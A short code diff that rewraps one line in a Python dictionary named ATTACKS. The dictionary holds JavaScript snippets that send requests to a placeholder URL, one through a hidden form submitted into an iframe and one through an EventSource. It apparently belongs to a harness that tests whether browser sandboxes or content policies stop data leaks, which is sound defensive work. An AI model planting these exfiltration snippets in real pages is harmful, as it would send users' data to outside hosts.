@@ -44,7 +44,8 @@ ATTACKS = {
     "form": "new Promise(done => { const f = document.createElement('iframe'); f.name = 'f';"
     " document.body.append(f); f.onload = done; const g = document.createElement('form'); g.target = 'f';"
     " const u = new URL(TO); g.action = u; for (const [k, v] of u.searchParams)"
-    " { const i = document.createElement('input'); i.name = k; i.value = v; g.append(i) } document.body.append(g); g.submit() })",
+    " { const i = document.createElement('input'); i.name = k; i.value = v; g.append(i) }"
+    " document.body.append(g); g.submit() })",
     "events": "new Promise(done => { const e = new EventSource(TO); e.onerror = e.onmessage = () =>"
     " { e.close(); done() } })",
 }
